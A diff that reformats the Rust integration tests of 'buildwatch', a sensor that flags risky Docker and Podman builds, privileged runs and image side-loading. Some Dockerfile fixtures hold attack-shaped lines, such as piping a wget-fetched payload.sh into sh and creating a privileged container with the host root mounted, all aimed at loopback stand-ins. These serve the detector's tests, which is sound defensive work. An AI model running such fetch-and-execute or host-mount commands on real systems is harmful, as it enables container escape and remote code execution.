@@ -57,7 +57,12 @@ fn main() -> ExitCode {
     let config = sensor_config(&env, &env.dir.join("sensor-state"));
     let recording = recordings_dir().join("detection-run.jsonl");
     let world = World {
-        sensor: Sensor::start_with(&binary, &config, &[OsStr::new("--record"), recording.as_os_str()], &[]),
+        sensor: Sensor::start_with(
+            &binary,
+            &config,
+            &[OsStr::new("--record"), recording.as_os_str()],
+            &[],
+        ),
         binary,
         env,
     };
@@ -112,7 +117,12 @@ fn main() -> ExitCode {
         ],
     );
     let dump = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("detection-events.jsonl");
-    let lines: Vec<String> = world.sensor.all(0, |_| true).iter().map(Value::to_string).collect();
+    let lines: Vec<String> = world
+        .sensor
+        .all(0, |_| true)
+        .iter()
+        .map(Value::to_string)
+        .collect();
     match std::fs::write(&dump, lines.join("\n") + "\n") {
         Ok(()) => println!("the sensor's {} events are in {}", lines.len(), dump.display()),
         Err(err) => println!("could not write {}: {err}", dump.display()),
@@ -126,7 +136,10 @@ fn main() -> ExitCode {
 }
 
 fn sensor_config(env: &Environment, state_dir: &std::path::Path) -> PathBuf {
-    let path = env.dir.join(format!("buildwatch-{}.toml", state_dir.file_name().unwrap_or_default().to_string_lossy()));
+    let path = env.dir.join(format!(
+        "buildwatch-{}.toml",
+        state_dir.file_name().unwrap_or_default().to_string_lossy()
+    ));
     std::fs::write(
         &path,
         format!(
@@ -140,7 +153,13 @@ fn sensor_config(env: &Environment, state_dir: &std::path::Path) -> PathBuf {
 }
 
 /// The first detection of `rule` after `mark` that satisfies `predicate`.
-fn detection(sensor: &Sensor, mark: usize, rule: &str, what: &str, predicate: impl Fn(&Value) -> bool) -> Value {
+fn detection(
+    sensor: &Sensor,
+    mark: usize,
+    rule: &str,
+    what: &str,
+    predicate: impl Fn(&Value) -> bool,
+) -> Value {
     sensor.wait_for(mark, TIMEOUT, what, |e| {
         kind(e) == "detection" && e["detection"]["rule"] == rule && predicate(e)
     })
@@ -148,7 +167,9 @@ fn detection(sensor: &Sensor, mark: usize, rule: &str, what: &str, predicate: im
 
 /// The `build` summary line written when a build ends.
 fn build_summary(sensor: &Sensor, mark: usize, what: &str, predicate: impl Fn(&Value) -> bool) -> Value {
-    sensor.wait_for(mark, TIMEOUT, what, |e| kind(e) == "build" && predicate(&e["build"]))
+    sensor.wait_for(mark, TIMEOUT, what, |e| {
+        kind(e) == "build" && predicate(&e["build"])
+    })
 }
 
 fn has_tag(build: &Value, tag: &str) -> bool {
@@ -184,30 +205,45 @@ fn remote_tcp_build_is_critical(world: &World) {
     let nonce = &env.nonce;
     // The daemon must fetch the base image itself while building.
     run_command(env.docker().args(["image", "rm", "--force", BASE_IMAGE]));
-    let command = format!("echo remote-{nonce} > /marker && (wget -q -T 1 -O /dev/null http://127.0.0.1:9/payload || true)");
+    let command = format!(
+        "echo remote-{nonce} > /marker && (wget -q -T 1 -O /dev/null http://127.0.0.1:9/payload || true)"
+    );
     let context = env.context("det-remote", &format!("FROM {BASE_IMAGE}\nRUN {command}\n"));
     let tag = format!("bwdet/remote:{nonce}");
     let full_tag = format!("docker.io/bwdet/remote:{nonce}");
     let mark = world.sensor.mark();
     run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
 
-    let found = detection(&world.sensor, mark, "build_without_pull", "build_without_pull for the remote build", |e| {
-        has_tag(&e["build"], &full_tag)
-    });
+    let found = detection(
+        &world.sensor,
+        mark,
+        "build_without_pull",
+        "build_without_pull for the remote build",
+        |e| has_tag(&e["build"], &full_tag),
+    );
     let d = &found["detection"];
     assert_eq!(d["severity"], "critical", "{found}");
     assert_eq!(d["attack"]["technique"], "T1612");
     assert_eq!(d["attack"]["tactic"], "TA0005");
-    assert!(d["summary"].as_str().unwrap_or_default().contains(&env.remote_ip), "{d}");
+    assert!(
+        d["summary"].as_str().unwrap_or_default().contains(&env.remote_ip),
+        "{d}"
+    );
     let build = &found["build"];
     assert_eq!(build["builder"], "classic");
     assert_eq!(build["transport"], "tcp");
     assert!(
-        build["peer"].as_str().unwrap_or_default().starts_with(&format!("{}:", env.remote_ip)),
+        build["peer"]
+            .as_str()
+            .unwrap_or_default()
+            .starts_with(&format!("{}:", env.remote_ip)),
         "peer: {build}"
     );
     assert_eq!(build["endpoint"], format!("{}:2375", env.daemon_ip));
-    assert_eq!(u64::from(env.dockerd_pid), build["daemon"]["pid"].as_u64().unwrap_or_default());
+    assert_eq!(
+        u64::from(env.dockerd_pid),
+        build["daemon"]["pid"].as_u64().unwrap_or_default()
+    );
     assert_evidence(&world.sensor, &found);
     // Emitted within a second of the request (not at the end of the build).
     let request = world.sensor.wait_for(mark, TIMEOUT, "the request", |e| {
@@ -216,25 +252,41 @@ fn remote_tcp_build_is_critical(world: &World) {
     let delay = time_ns(&found) - time_ns(&request);
     assert!(delay < 1_000_000_000, "detection {delay} ns after the request");
 
-    let summary = build_summary(&world.sensor, mark, "the remote build's summary", |b| b["id"] == build["id"]);
+    let summary = build_summary(&world.sensor, mark, "the remote build's summary", |b| {
+        b["id"] == build["id"]
+    });
     let summary = &summary["build"];
     assert_eq!(summary["state"], "finished");
     assert_eq!(summary["detection_id"], d["id"]);
     let bases = summary["base_images"].as_array().cloned().unwrap_or_default();
     assert!(
-        bases.iter().any(|b| b["reference"] == BASE_IMAGE && b["fetched"] == true),
+        bases
+            .iter()
+            .any(|b| b["reference"] == BASE_IMAGE && b["fetched"] == true),
         "base image not fetched from the registry: {bases:?}"
     );
     let steps = summary["steps"].as_array().cloned().unwrap_or_default();
     assert!(
-        steps.iter().any(|s| strings(&s["argv"]) == ["/bin/sh", "-c", command.as_str()]),
+        steps
+            .iter()
+            .any(|s| strings(&s["argv"]) == ["/bin/sh", "-c", command.as_str()]),
         "RUN step missing from {steps:?}"
     );
     assert!(
-        steps.iter().any(|s| strings(&s["argv"]).first().is_some_and(|a| a == "wget")),
+        steps
+            .iter()
+            .any(|s| strings(&s["argv"]).first().is_some_and(|a| a == "wget")),
         "wget step missing from {steps:?}"
     );
-    let egress = strings(&summary["egress"].as_array().cloned().unwrap_or_default().iter().map(|e| e["detail"].clone()).collect());
+    let egress = strings(
+        &summary["egress"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default()
+            .iter()
+            .map(|e| e["detail"].clone())
+            .collect(),
+    );
     assert!(egress.iter().any(|e| e.contains("wget")), "egress: {egress:?}");
     assert_eq!(summary["severity"], "critical");
 }
@@ -246,35 +298,71 @@ fn pull_then_build_is_not_flagged(world: &World) {
     let tag = format!("{BASE_REPOSITORY}:ci-{nonce}");
     let mark = world.sensor.mark();
     run_command(env.docker().args(["pull", BASE_IMAGE]));
-    run_command(env.docker().args(["build", "--cache-from", BASE_IMAGE, "-t", &tag]).arg(&context));
-    let summary = build_summary(&world.sensor, mark, "the CI build's summary", |b| has_tag(b, &tag));
+    run_command(
+        env.docker()
+            .args(["build", "--cache-from", BASE_IMAGE, "-t", &tag])
+            .arg(&context),
+    );
+    let summary = build_summary(&world.sensor, mark, "the CI build's summary", |b| {
+        has_tag(b, &tag)
+    });
     assert!(summary["build"]["detection_id"].is_null(), "flagged: {summary}");
-    let flagged = world.sensor.all(mark, |e| kind(e) == "detection" && has_tag(&e["build"], &tag));
+    let flagged = world
+        .sensor
+        .all(mark, |e| kind(e) == "detection" && has_tag(&e["build"], &tag));
     assert!(flagged.is_empty(), "a pulled repository was flagged: {flagged:?}");
     let pull = world.sensor.all(mark, |e| {
-        kind(e) == "docker.operation" && e["operation"]["type"] == "pull" && e["operation"]["image"] == BASE_IMAGE
+        kind(e) == "docker.operation"
+            && e["operation"]["type"] == "pull"
+            && e["operation"]["image"] == BASE_IMAGE
     });
     assert!(!pull.is_empty(), "the pull was not reported");
 }
 
 fn local_untagged_build_is_medium(world: &World) {
     let env = &world.env;
-    let context = env.context("det-untagged", &format!("FROM {BASE_IMAGE}\nLABEL untagged={}\n", env.nonce));
+    let context = env.context(
+        "det-untagged",
+        &format!("FROM {BASE_IMAGE}\nLABEL untagged={}\n", env.nonce),
+    );
     let mark = world.sensor.mark();
     let secret = format!("docker-secret-{}", env.nonce);
-    run_command(env.docker().args(["build", "--build-arg", &format!("TOKEN={secret}")]).arg(&context));
-    let found = detection(&world.sensor, mark, "build_without_pull", "build_without_pull for the untagged build", |e| {
-        e["build"]["tags"].as_array().is_some_and(Vec::is_empty) && e["build"]["transport"] == "unix"
-    });
+    run_command(
+        env.docker()
+            .args(["build", "--build-arg", &format!("TOKEN={secret}")])
+            .arg(&context),
+    );
+    let found = detection(
+        &world.sensor,
+        mark,
+        "build_without_pull",
+        "build_without_pull for the untagged build",
+        |e| e["build"]["tags"].as_array().is_some_and(Vec::is_empty) && e["build"]["transport"] == "unix",
+    );
     assert_eq!(found["detection"]["severity"], "medium", "{found}");
     let client = &found["build"]["client"];
     assert_eq!(client["comm"], "docker", "{found}");
-    assert!(client["exe"].as_str().unwrap_or_default().ends_with("/docker"), "{client}");
-    assert!(strings(&client["argv"]).iter().any(|a| a == "build"), "{client}");
-    assert!(!client["ancestry"].as_array().cloned().unwrap_or_default().is_empty(), "{client}");
-    assert_eq!(found["build"]["endpoint"], format!("unix:{}", env.socket.display()));
     assert!(
-        strings(&found["detection"]["reasons"]).iter().any(|r| r.contains("untagged")),
+        client["exe"].as_str().unwrap_or_default().ends_with("/docker"),
+        "{client}"
+    );
+    assert!(strings(&client["argv"]).iter().any(|a| a == "build"), "{client}");
+    assert!(
+        !client["ancestry"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default()
+            .is_empty(),
+        "{client}"
+    );
+    assert_eq!(
+        found["build"]["endpoint"],
+        format!("unix:{}", env.socket.display())
+    );
+    assert!(
+        strings(&found["detection"]["reasons"])
+            .iter()
+            .any(|r| r.contains("untagged")),
         "{found}"
     );
     assert_eq!(strings(&found["build"]["build_arg_keys"]), ["TOKEN"]);
@@ -285,7 +373,10 @@ fn local_untagged_build_is_medium(world: &World) {
 fn buildkit_build_is_detected(world: &World) {
     let env = &world.env;
     let nonce = &env.nonce;
-    let context = env.context("det-buildkit", &format!("FROM {BASE_IMAGE}\nRUN echo bk-{nonce}\n"));
+    let context = env.context(
+        "det-buildkit",
+        &format!("FROM {BASE_IMAGE}\nRUN echo bk-{nonce}\n"),
+    );
     let tag = format!("bwdet/buildkit:{nonce}");
     let mark = world.sensor.mark();
     run_command(
@@ -294,9 +385,13 @@ fn buildkit_build_is_detected(world: &World) {
             .args(["build", "--network", "none", "-t", &tag])
             .arg(&context),
     );
-    let found = detection(&world.sensor, mark, "build_without_pull", "build_without_pull for the BuildKit build", |e| {
-        has_tag(&e["build"], &format!("docker.io/{tag}"))
-    });
+    let found = detection(
+        &world.sensor,
+        mark,
+        "build_without_pull",
+        "build_without_pull for the BuildKit build",
+        |e| has_tag(&e["build"], &format!("docker.io/{tag}")),
+    );
     assert_eq!(found["build"]["builder"], "buildkit", "{found}");
     assert_eq!(found["detection"]["severity"], "medium");
     assert_eq!(found["build"]["client"]["comm"], "docker");
@@ -305,7 +400,10 @@ fn buildkit_build_is_detected(world: &World) {
 fn podman_build_is_detected(world: &World) {
     let env = &world.env;
     let nonce = &env.nonce;
-    let context = env.context("det-podman", &format!("FROM {BASE_IMAGE}\nRUN echo podman-{nonce}\n"));
+    let context = env.context(
+        "det-podman",
+        &format!("FROM {BASE_IMAGE}\nRUN echo podman-{nonce}\n"),
+    );
     let tag = format!("bwdet/podman:{nonce}");
     let root = env.dir.join("podman");
     let mark = world.sensor.mark();
@@ -317,31 +415,62 @@ fn podman_build_is_detected(world: &World) {
         .arg(root.join("root"))
         .arg("--runroot")
         .arg(root.join("run"))
-        .args(["--cgroup-manager", "cgroupfs", "build", "--tls-verify=false", "--network", "none", "-t", &tag])
+        .args([
+            "--cgroup-manager",
+            "cgroupfs",
+            "build",
+            "--tls-verify=false",
+            "--network",
+            "none",
+            "-t",
+            &tag,
+        ])
         .args(["--build-arg", &format!("TOKEN=podman-secret-{nonce}")])
         .arg(&context)
         .status()
         .expect("running podman");
     assert!(status.success(), "podman build failed: {status}");
-    let found = detection(&world.sensor, mark, "build_without_pull", "build_without_pull for podman build", |e| {
-        has_tag(&e["build"], &format!("docker.io/{tag}"))
-    });
+    let found = detection(
+        &world.sensor,
+        mark,
+        "build_without_pull",
+        "build_without_pull for podman build",
+        |e| has_tag(&e["build"], &format!("docker.io/{tag}")),
+    );
     assert_eq!(found["build"]["builder"], "podman", "{found}");
     assert_eq!(found["build"]["transport"], "exec");
     assert_eq!(found["detection"]["severity"], "medium");
-    assert!(strings(&found["build"]["client"]["argv"]).iter().any(|a| a == "build"), "{found}");
+    assert!(
+        strings(&found["build"]["client"]["argv"])
+            .iter()
+            .any(|a| a == "build"),
+        "{found}"
+    );
     assert_eq!(strings(&found["build"]["build_arg_keys"]), ["TOKEN"]);
-    assert_eq!(found["build"]["instructions"]["from"][0], BASE_IMAGE, "Dockerfile read from the context: {found}");
+    assert_eq!(
+        found["build"]["instructions"]["from"][0], BASE_IMAGE,
+        "Dockerfile read from the context: {found}"
+    );
     assert_evidence(&world.sensor, &found);
-    let summary = build_summary(&world.sensor, mark, "the podman build's summary", |b| b["id"] == found["build"]["id"]);
+    let summary = build_summary(&world.sensor, mark, "the podman build's summary", |b| {
+        b["id"] == found["build"]["id"]
+    });
     let summary = &summary["build"];
     assert!(
-        summary["base_images"].as_array().into_iter().flatten().any(|b| b["reference"] == BASE_IMAGE && b["fetched"] == true),
+        summary["base_images"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .any(|b| b["reference"] == BASE_IMAGE && b["fetched"] == true),
         "podman's registry fetch: {summary}"
     );
     let step = format!("echo podman-{nonce}");
     assert!(
-        summary["steps"].as_array().into_iter().flatten().any(|s| strings(&s["argv"]).last() == Some(&step)),
+        summary["steps"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .any(|s| strings(&s["argv"]).last() == Some(&step)),
         "podman RUN step: {summary}"
     );
     assert_no_secret(&world.sensor, &format!("podman-secret-{nonce}"));
@@ -350,7 +479,12 @@ fn podman_build_is_detected(world: &World) {
 /// Build-arg values appear in no line the sensor wrote (argv, captured bytes, build objects).
 fn assert_no_secret(sensor: &Sensor, secret: &str) {
     let leaks = sensor.all(0, |e| e.to_string().contains(secret));
-    assert!(leaks.is_empty(), "build-arg value leaked in {} lines: {:?}", leaks.len(), leaks.first());
+    assert!(
+        leaks.is_empty(),
+        "build-arg value leaked in {} lines: {:?}",
+        leaks.len(),
+        leaks.first()
+    );
 }
 
 fn curl_raw_build_is_detected(world: &World) {
@@ -358,7 +492,16 @@ fn curl_raw_build_is_detected(world: &World) {
     let nonce = &env.nonce;
     let context = env.context("det-curl", &format!("FROM {BASE_IMAGE}\nRUN echo curl-{nonce}\n"));
     let tarball = env.dir.join("det-curl.tar");
-    run("tar", &["-C", &context.to_string_lossy(), "-cf", &tarball.to_string_lossy(), "."]);
+    run(
+        "tar",
+        &[
+            "-C",
+            &context.to_string_lossy(),
+            "-cf",
+            &tarball.to_string_lossy(),
+            ".",
+        ],
+    );
     let mark = world.sensor.mark();
     run(
         "curl",
@@ -377,14 +520,26 @@ fn curl_raw_build_is_detected(world: &World) {
             &format!("http://docker/build?t=bwdet%2Fcurl%3A{nonce}&t=bwdet%2Fcurl%3Alatest"),
         ],
     );
-    let found = detection(&world.sensor, mark, "build_without_pull", "build_without_pull for curl's POST /build", |e| {
-        has_tag(&e["build"], &format!("docker.io/bwdet/curl:{nonce}"))
-    });
+    let found = detection(
+        &world.sensor,
+        mark,
+        "build_without_pull",
+        "build_without_pull for curl's POST /build",
+        |e| has_tag(&e["build"], &format!("docker.io/bwdet/curl:{nonce}")),
+    );
     let build = &found["build"];
-    assert!(has_tag(build, "docker.io/bwdet/curl:latest"), "repeated t= lost: {build}");
+    assert!(
+        has_tag(build, "docker.io/bwdet/curl:latest"),
+        "repeated t= lost: {build}"
+    );
     assert_eq!(build["client"]["comm"], "curl", "{found}");
-    assert_eq!(build["instructions"]["from"][0], BASE_IMAGE, "Dockerfile from the context: {build}");
-    let summary = build_summary(&world.sensor, mark, "curl build summary", |b| b["id"] == build["id"]);
+    assert_eq!(
+        build["instructions"]["from"][0], BASE_IMAGE,
+        "Dockerfile from the context: {build}"
+    );
+    let summary = build_summary(&world.sensor, mark, "curl build summary", |b| {
+        b["id"] == build["id"]
+    });
     assert_eq!(summary["build"]["state"], "finished");
 }
 
@@ -395,11 +550,24 @@ fn privileged_run_of_built_image(world: &World) {
     let tag = format!("bwdet/run:{nonce}");
     run_command(env.docker().args(["build", "-t", &tag]).arg(&context));
     let mark = world.sensor.mark();
-    let id = run_command(env.docker().args(["create", "--privileged", "--network", "none", "-v", "/:/host", &tag, "true"]));
+    let id = run_command(env.docker().args([
+        "create",
+        "--privileged",
+        "--network",
+        "none",
+        "-v",
+        "/:/host",
+        &tag,
+        "true",
+    ]));
     run_command(env.docker().args(["rm", id.trim()]));
-    let found = detection(&world.sensor, mark, "run_of_unpulled_image", "run_of_unpulled_image", |e| {
-        e["operation"]["image"] == tag.as_str()
-    });
+    let found = detection(
+        &world.sensor,
+        mark,
+        "run_of_unpulled_image",
+        "run_of_unpulled_image",
+        |e| e["operation"]["image"] == tag.as_str(),
+    );
     let d = &found["detection"];
     assert_eq!(d["severity"], "critical", "{found}");
     assert_eq!(d["attack"]["technique"], "T1610");
@@ -416,12 +584,19 @@ fn docker_load_is_side_loading(world: &World) {
     let env = &world.env;
     let archive = env.dir.join("det-load.tar");
     run_command(env.docker().args(["pull", BASE_IMAGE]));
-    run_command(env.docker().args(["save", "-o", &archive.to_string_lossy(), BASE_IMAGE]));
+    run_command(
+        env.docker()
+            .args(["save", "-o", &archive.to_string_lossy(), BASE_IMAGE]),
+    );
     let mark = world.sensor.mark();
     run_command(env.docker().args(["load", "-i", &archive.to_string_lossy()]));
-    let found = detection(&world.sensor, mark, "image_side_loaded", "image_side_loaded for docker load", |e| {
-        e["operation"]["type"] == "load"
-    });
+    let found = detection(
+        &world.sensor,
+        mark,
+        "image_side_loaded",
+        "image_side_loaded for docker load",
+        |e| e["operation"]["type"] == "load",
+    );
     assert_eq!(found["detection"]["severity"], "medium", "{found}");
     assert_eq!(found["operation"]["client"]["comm"], "docker");
     assert_evidence(&world.sensor, &found);
@@ -440,22 +615,39 @@ fn ledger_survives_a_restart(world: &World) {
         first.wait_for(mark, TIMEOUT, "the pull, seen by the first sensor", |e| {
             kind(e) == "docker.operation" && e["operation"]["type"] == "pull"
         });
-        let status = first.terminate(Duration::from_secs(15)).expect("the first sensor did not stop");
+        let status = first
+            .terminate(Duration::from_secs(15))
+            .expect("the first sensor did not stop");
         assert!(status.success(), "first sensor: {status}\n{}", first.stderr());
     }
-    assert!(state_dir.join("ledger.json").is_file(), "no ledger in {}", state_dir.display());
+    assert!(
+        state_dir.join("ledger.json").is_file(),
+        "no ledger in {}",
+        state_dir.display()
+    );
     let second = Sensor::start(&world.binary, &config);
     let mark = second.mark();
-    let context = env.context("det-restart", &format!("FROM {BASE_IMAGE}\nLABEL restart={nonce}\n"));
+    let context = env.context(
+        "det-restart",
+        &format!("FROM {BASE_IMAGE}\nLABEL restart={nonce}\n"),
+    );
     let tag = format!("{REGISTRY}/bwbase:restart-{nonce}");
     run_command(env.docker().args(["build", "-t", &tag]).arg(&context));
     let summary = build_summary(&second, mark, "the build after the restart", |b| has_tag(b, &tag));
-    assert!(summary["build"]["detection_id"].is_null(), "flagged after restart: {summary}");
+    assert!(
+        summary["build"]["detection_id"].is_null(),
+        "flagged after restart: {summary}"
+    );
     let flagged = second.all(mark, |e| kind(e) == "detection" && has_tag(&e["build"], &tag));
-    assert!(flagged.is_empty(), "the persisted pull was forgotten: {flagged:?}");
+    assert!(
+        flagged.is_empty(),
+        "the persisted pull was forgotten: {flagged:?}"
+    );
     // The main sensor saw the same pull, so it must not flag it either; a sensor without the
     // history would (checked by local_untagged_build_is_medium and the unit tests).
-    let status = second.terminate(Duration::from_secs(15)).expect("the second sensor did not stop");
+    let status = second
+        .terminate(Duration::from_secs(15))
+        .expect("the second sensor did not stop");
     assert!(status.success(), "second sensor: {status}\n{}", second.stderr());
 }
 
@@ -475,7 +667,10 @@ fn replay(binary: &Path, recording: &Path, all: bool) -> Vec<Value> {
     let output = command.output().expect("running buildwatch replay");
     let stderr = String::from_utf8_lossy(&output.stderr);
     assert!(output.status.success(), "replay failed: {stderr}");
-    assert!(!stderr.contains("did not match"), "the recording did not answer the replay: {stderr}");
+    assert!(
+        !stderr.contains("did not match"),
+        "the recording did not answer the replay: {stderr}"
+    );
     String::from_utf8_lossy(&output.stdout)
         .lines()
         .map(|l| serde_json::from_str(l).expect("replay prints JSON lines"))
@@ -490,8 +685,16 @@ fn replay_equals_live(world: &World) {
         .expect("the main sensor did not stop");
     assert!(status.success(), "{}", world.sensor.stderr());
     let live = world.sensor.all(0, |e| kind(e) == "detection");
-    assert!(live.len() >= 8, "the scenarios raised only {} detections", live.len());
-    let replayed = replay(&world.binary, &recordings_dir().join("detection-run.jsonl"), false);
+    assert!(
+        live.len() >= 8,
+        "the scenarios raised only {} detections",
+        live.len()
+    );
+    let replayed = replay(
+        &world.binary,
+        &recordings_dir().join("detection-run.jsonl"),
+        false,
+    );
     assert_eq!(replayed.len(), live.len(), "replay: {replayed:?}");
     for (live, replayed) in live.iter().zip(&replayed) {
         assert_eq!(live, replayed, "replay differs from live");
@@ -500,7 +703,10 @@ fn replay_equals_live(world: &World) {
     let live_all = world.sensor.all(0, |e| !kind(e).starts_with("sensor."));
     let replayed_all = replay(&world.binary, &recordings_dir().join("detection-run.jsonl"), true);
     assert_eq!(replayed_all.len(), live_all.len());
-    assert!(live_all == replayed_all, "some replayed line differs from the live one");
+    assert!(
+        live_all == replayed_all,
+        "some replayed line differs from the live one"
+    );
 }
 
 /// A small recording (only the docker socket, the remote build and a privileged run), the kind
@@ -516,24 +722,46 @@ fn small_recording_replays_to_its_detections(world: &World) {
             env.socket.display()
         ),
     );
-    let recorder = Sensor::start_with(&world.binary, &config.path, &[OsStr::new("--record"), path.as_os_str()], &[]);
+    let recorder = Sensor::start_with(
+        &world.binary,
+        &config.path,
+        &[OsStr::new("--record"), path.as_os_str()],
+        &[],
+    );
     let context = env.context(
         "recorded",
         &format!("FROM {BASE_IMAGE}\nRUN wget -q -T 1 -O - http://127.0.0.1:9/payload.sh | sh || true\n"),
     );
     let tag = format!("bwdet/recorded:{nonce}");
     run_command(env.remote_docker().args(["build", "-t", &tag]).arg(&context));
-    let id = run_command(env.remote_docker().args(["create", "--privileged", "--network", "none", &tag, "true"]));
+    let id =
+        run_command(
+            env.remote_docker()
+                .args(["create", "--privileged", "--network", "none", &tag, "true"]),
+        );
     run_command(env.docker().args(["rm", id.trim()]));
     recorder.wait_for(0, TIMEOUT, "the run detection", |e| {
         kind(e) == "detection" && e["detection"]["rule"] == "run_of_unpulled_image"
     });
-    let status = recorder.terminate(Duration::from_secs(15)).expect("the recording sensor did not stop");
+    let status = recorder
+        .terminate(Duration::from_secs(15))
+        .expect("the recording sensor did not stop");
     assert!(status.success());
     let live = recorder.all(0, |e| kind(e) == "detection");
-    let rules: BTreeSet<String> = live.iter().map(|d| d["detection"]["rule"].as_str().unwrap_or_default().to_string()).collect();
-    for rule in ["api_exposed", "build_without_pull", "build_egress", "run_of_unpulled_image"] {
-        assert!(rules.contains(rule), "{rule} missing from the recorded run: {rules:?}");
+    let rules: BTreeSet<String> = live
+        .iter()
+        .map(|d| d["detection"]["rule"].as_str().unwrap_or_default().to_string())
+        .collect();
+    for rule in [
+        "api_exposed",
+        "build_without_pull",
+        "build_egress",
+        "run_of_unpulled_image",
+    ] {
+        assert!(
+            rules.contains(rule),
+            "{rule} missing from the recorded run: {rules:?}"
+        );
     }
     assert_eq!(replay(&world.binary, &path, false), live);
 }
